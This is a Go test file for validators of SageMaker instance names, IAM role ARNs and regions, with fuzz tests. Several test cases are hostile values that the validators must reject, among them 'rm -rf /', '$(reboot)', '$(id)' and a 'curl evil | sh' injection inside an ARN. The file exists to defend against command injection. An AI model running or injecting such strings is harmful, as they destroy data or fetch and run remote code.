package lifecycle

import (
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

const testRole = "arn:aws:iam::111122223333:role/service-role/AmazonSageMaker-ExecutionRole"

func TestValidateInstanceName(t *testing.T) {
	tests := []struct {
		name string
		ok   bool
	}{
		{"test-2", true},
		{"a", true},
		{"A--b", true},
		{strings.Repeat("a", 63), true},
		{strings.Repeat("a", 64), false},
		{"", false},
		{"-lead", false},
		{"trail-", false},
		{"under_score", false},
		{"dot.name", false},
		{"x'; rm -rf / #", false},
		{"$(reboot)", false},
		{"`id`", false},
		{"a\nb", false},
		{"naïve", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateInstanceName(tt.name)
			if (err == nil) != tt.ok {
				t.Errorf("ValidateInstanceName(%q) = %v, want ok %v", tt.name, err, tt.ok)
			}
			if err != nil && !errors.Is(err, ErrInvalid) {
				t.Errorf("ValidateInstanceName(%q) = %v, want ErrInvalid", tt.name, err)
			}
		})
	}
}

func TestParseRoleARN(t *testing.T) {
	tests := []struct {
		in   string
		want RoleARN
		ok   bool
	}{
		{testRole, RoleARN{"aws", "111122223333", "/service-role/", "AmazonSageMaker-ExecutionRole"}, true},
		{"arn:aws-cn:iam::111122223333:role/r", RoleARN{"aws-cn", "111122223333", "/", "r"}, true},
		{"arn:aws-us-gov:iam::111122223333:role/a/b/c+=,.@_-", RoleARN{"aws-us-gov", "111122223333", "/a/b/", "c+=,.@_-"}, true},
		{"arn:aws-iso:iam::111122223333:role/r", RoleARN{}, false},
		{"arn:aws:iam::11112222333:role/r", RoleARN{}, false},
		{"arn:aws:iam::111122223333:user/r", RoleARN{}, false},
		{"arn:aws:sts::111122223333:assumed-role/r/s", RoleARN{}, false},
		{"arn:aws:iam::111122223333:role/", RoleARN{}, false},
		{"arn:aws:iam::111122223333:role/" + strings.Repeat("r", 65), RoleARN{}, false},
		{"arn:aws:iam::111122223333:role/r'; curl evil | sh; '", RoleARN{}, false},
		{"arn:aws:iam::111122223333:role/$(id)/r", RoleARN{}, false},
		{"arn:aws:iam::111122223333:role/r\nrole_arn = x", RoleARN{}, false},
		{" " + testRole, RoleARN{}, false},
	}
	for _, tt := range tests {
		got, err := ParseRoleARN(tt.in)
		if (err == nil) != tt.ok {
			t.Errorf("ParseRoleARN(%q) = %v, want ok %v", tt.in, err, tt.ok)
			continue
		}
		if err != nil {
			if !errors.Is(err, ErrInvalid) {
				t.Errorf("ParseRoleARN(%q) = %v, want ErrInvalid", tt.in, err)
			}
			continue
		}
		if diff := cmp.Diff(tt.want, got); diff != "" {
			t.Errorf("ParseRoleARN(%q) mismatch (-want +got):\n%s", tt.in, diff)
		}
		if got.String() != tt.in {
			t.Errorf("ParseRoleARN(%q).String() = %q, want the input", tt.in, got.String())
		}
	}
}

func TestValidateRegion(t *testing.T) {
	for _, r := range []string{"us-east-1", "eu-central-2", "ap-southeast-5", "cn-northwest-1", "us-gov-west-1"} {
		if err := ValidateRegion(r); err != nil {
			t.Errorf("ValidateRegion(%q) = %v, want nil", r, err)
		}
	}
	for _, r := range []string{"", "us-east", "US-EAST-1", "us-east-1;id", "us-east-1\n", "global"} {
		if err := ValidateRegion(r); !errors.Is(err, ErrInvalid) {
			t.Errorf("ValidateRegion(%q) = %v, want ErrInvalid", r, err)
		}
	}
}

func TestParamsValidate(t *testing.T) {
	tests := []struct {
		name string
		p    Params
		ok   bool
	}{
		{"per-instance", Params{Instance: "test-2", RoleARN: testRole, Region: "us-east-1"}, true},
		{"per-instance without region", Params{Instance: "test-2", RoleARN: testRole}, true},
		{"generic", Params{}, true},
		{"generic with region", Params{Region: "eu-west-1"}, true},
		{"name without role", Params{Instance: "test-2"}, false},
		{"role without name", Params{RoleARN: testRole}, false},
		{"china role in us region", Params{Instance: "a", RoleARN: "arn:aws-cn:iam::111122223333:role/r", Region: "us-east-1"}, false},
		{"govcloud", Params{Instance: "a", RoleARN: "arn:aws-us-gov:iam::111122223333:role/r", Region: "us-gov-west-1"}, true},
		{"bad config name", Params{ConfigName: "has space"}, false},
		{"hostile region", Params{Region: "us-east-1'$(id)'"}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := tt.p.Validate()
			if (err == nil) != tt.ok {
				t.Errorf("%+v.Validate() = %v, want ok %v", tt.p, err, tt.ok)
			}
			if err != nil && !errors.Is(err, ErrInvalid) {
				t.Errorf("%+v.Validate() = %v, want ErrInvalid", tt.p, err)
			}
		})
	}
}

func TestConfigName(t *testing.T) {
	long := strings.Repeat("n", 63)
	tests := []struct {
		instance, want string
	}{
		{"", GenericConfigName},
		{"test-2", "ctattrib-test-2"},
		{long, "ctattrib-" + strings.Repeat("n", 45) + "-73dcf996"},
	}
	for _, tt := range tests {
		got := ConfigName(tt.instance)
		if got != tt.want {
			t.Errorf("ConfigName(%q) = %q, want %q", tt.instance, got, tt.want)
		}
		if err := validateName("config", got); err != nil {
			t.Errorf("ConfigName(%q) = %q, which SageMaker refuses: %v", tt.instance, got, err)
		}
	}
	if a, b := ConfigName(long), ConfigName(strings.Repeat("n", 62)+"m"); a == b {
		t.Errorf("ConfigName gives %q for two different long names", a)
	}
}

func FuzzParseRoleARN(f *testing.F) {
	f.Add(testRole)
	f.Add("arn:aws-cn:iam::111122223333:role/r")
	f.Add("arn:aws:iam::111122223333:role/a'b")
	f.Fuzz(func(t *testing.T, s string) {
		arn, err := ParseRoleARN(s)
		if err != nil {
			return
		}
		if arn.String() != s {
			t.Errorf("ParseRoleARN(%q).String() = %q", s, arn.String())
		}
		if strings.ContainsAny(s, "'\"`$;&|<>\\ \t\n(){}") {
			t.Errorf("ParseRoleARN(%q) accepted a shell or INI metacharacter", s)
		}
	})
}

func FuzzValidateInstanceName(f *testing.F) {
	f.Add("test-2")
	f.Add("a'b")
	f.Fuzz(func(t *testing.T, s string) {
		if ValidateInstanceName(s) != nil {
			return
		}
		if len(s) > 63 || strings.Trim(s, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-") != "" {
			t.Errorf("ValidateInstanceName(%q) accepted it", s)
		}
	})
}
